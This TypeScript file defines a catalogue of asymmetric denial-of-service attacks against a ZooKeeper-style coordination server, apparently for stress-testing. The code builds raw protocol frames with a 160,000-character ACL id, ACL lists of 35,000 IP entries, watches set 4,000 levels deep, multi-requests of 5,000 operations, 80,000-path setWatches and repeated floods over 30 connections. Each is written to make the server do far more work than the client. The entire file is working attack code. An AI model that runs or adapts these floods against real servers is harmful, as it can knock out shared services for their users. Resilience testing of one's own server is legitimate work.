/** The attacks. Their requests cost the server much more work than they cost the client. */
import {
  type ACL,
  AddWatchMode,
  CreateFlag,
  OpCode,
  Perm,
  Writer,
  writeAddWatchRequest,
  writeCreateRequest,
  writeExistsRequest,
  writeGetAllChildrenNumberRequest,
  writeGetChildrenRequest,
  writeGetEphemeralsRequest,
  writeMultiRequest,
  writeSetDataRequest,
  writeSetWatches,
} from '@nodekeeper/protocol';

export interface Attack {
  readonly name: string;
  readonly connections: number;
  /** Requests that the first connection sends before the attack begins. */
  readonly setup: () => Buffer[];
  /** Requests that each connection sends at once. When all of them have a reply, the connection sends them again. */
  readonly flood: () => Buffer[];
}

const open: ACL[] = [{ perms: Perm.ALL, id: { scheme: 'world', id: 'anyone' } }];
const many = <Item>(count: number, make: (index: number) => Item) => Array.from({ length: count }, (_, at) => make(at));
const noData = Buffer.alloc(0);

/** Encodes a request. Its xid is always 1, because the attacker only counts the replies. */
function frame<Request>(type: number, write: (out: Writer, request: Request) => void, request: Request): Buffer {
  const out = new Writer();
  for (const value of [0, 1, type]) out.int(value);
  write(out, request);
  out.bytes.writeInt32BE(out.position - 4, 0);
  return Buffer.from(out.view());
}

const create = (path: string, acl = open, flags = 0) =>
  frame(OpCode.create, writeCreateRequest, { path, data: noData, acl, flags });
const exists = (path: string) => frame(OpCode.exists, writeExistsRequest, { path, watch: false });
const set = (path: string) => frame(OpCode.setData, writeSetDataRequest, { path, data: noData, version: -1 });
const networks = (count: number) =>
  many(count, (at) => ({ perms: Perm.ALL, id: { scheme: 'ip', id: `10.${at >> 16}.${(at >> 8) & 255}.${at & 255}` } }));

const deepPath = (levels: number) => '/d'.repeat(levels);
const deepLevels = 4000;

export const attacks: readonly Attack[] = [
  {
    name: 'creates with an id of 160,000 colons',
    connections: 1,
    setup: () => [],
    flood: () => [create('/x', [{ perms: Perm.ALL, id: { scheme: 'digest', id: `${':'.repeat(160_000)}x` } }])],
  },
  {
    name: 'exists on a node with 35,000 ip entries, or as many as it takes',
    connections: 1,
    setup: () => [create('/acl', networks(1000)), create('/acl-long', networks(35_000))],
    flood: () => many(2000, (at) => exists(at % 2 === 0 ? '/acl' : '/acl-long')),
  },
  {
    name: 'getEphemerals of a session with 1,000',
    connections: 1,
    setup: () => many(1000, (at) => create(`/e${at}`, open, CreateFlag.EPHEMERAL)),
    flood: () => many(2000, () => frame(OpCode.getEphemerals, writeGetEphemeralsRequest, { prefixPath: '/' })),
  },
  {
    name: 'getAllChildrenNumber above 20,000 nodes',
    connections: 1,
    setup: () => [create('/top'), ...many(20_000, (at) => create(`/top/n${at}`))],
    flood: () =>
      many(1000, () => frame(OpCode.getAllChildrenNumber, writeGetAllChildrenNumberRequest, { path: '/top' })),
  },
  {
    name: 'multiReads of 500 getChildren of 2,000 children',
    connections: 1,
    setup: () => [create('/top'), ...many(2000, (at) => create(`/top/n${at}`))],
    flood: () => {
      const part = { type: OpCode.getChildren, request: { path: '/top', watch: false } };
      return many(3, () =>
        frame(
          OpCode.multiRead,
          writeMultiRequest,
          many(500, () => part),
        ),
      );
    },
  },
  {
    name: 'getChildren of 20,000 children',
    connections: 1,
    setup: () => [create('/top'), ...many(20_000, (at) => create(`/top/n${at}`))],
    flood: () => many(200, () => frame(OpCode.getChildren, writeGetChildrenRequest, { path: '/top', watch: false })),
  },
  {
    name: 'sets 4,000 levels below a recursive watch',
    connections: 1,
    setup: () => [
      ...many(deepLevels, (at) => create(deepPath(at + 1))),
      frame(OpCode.addWatch, writeAddWatchRequest, { path: '/', mode: AddWatchMode.persistentRecursive }),
    ],
    flood: () => many(50, () => set(deepPath(deepLevels))),
  },
  {
    name: 'setWatches of 80,000 paths',
    connections: 1,
    setup: () => [],
    flood: () => {
      const existWatches = many(80_000, (at) => `/w${at}`);
      const lists = { relativeZxid: 0, dataWatches: [], existWatches, childWatches: [] };
      return [frame(OpCode.setWatches, writeSetWatches, lists)];
    },
  },
  {
    name: 'multis of 5,000 sets',
    connections: 1,
    setup: () => [create('/m')],
    flood: () => {
      const part = { type: OpCode.setData, request: { path: '/m', data: noData, version: -1 } };
      return many(3, () =>
        frame(
          OpCode.multi,
          writeMultiRequest,
          many(5000, () => part),
        ),
      );
    },
  },
  { name: 'exists, 3,000 at once', connections: 1, setup: () => [], flood: () => many(3000, () => exists('/')) },
  {
    name: 'the same from 30 connections',
    connections: 30,
    setup: () => [],
    flood: () => many(3000, () => exists('/')),
  },
];
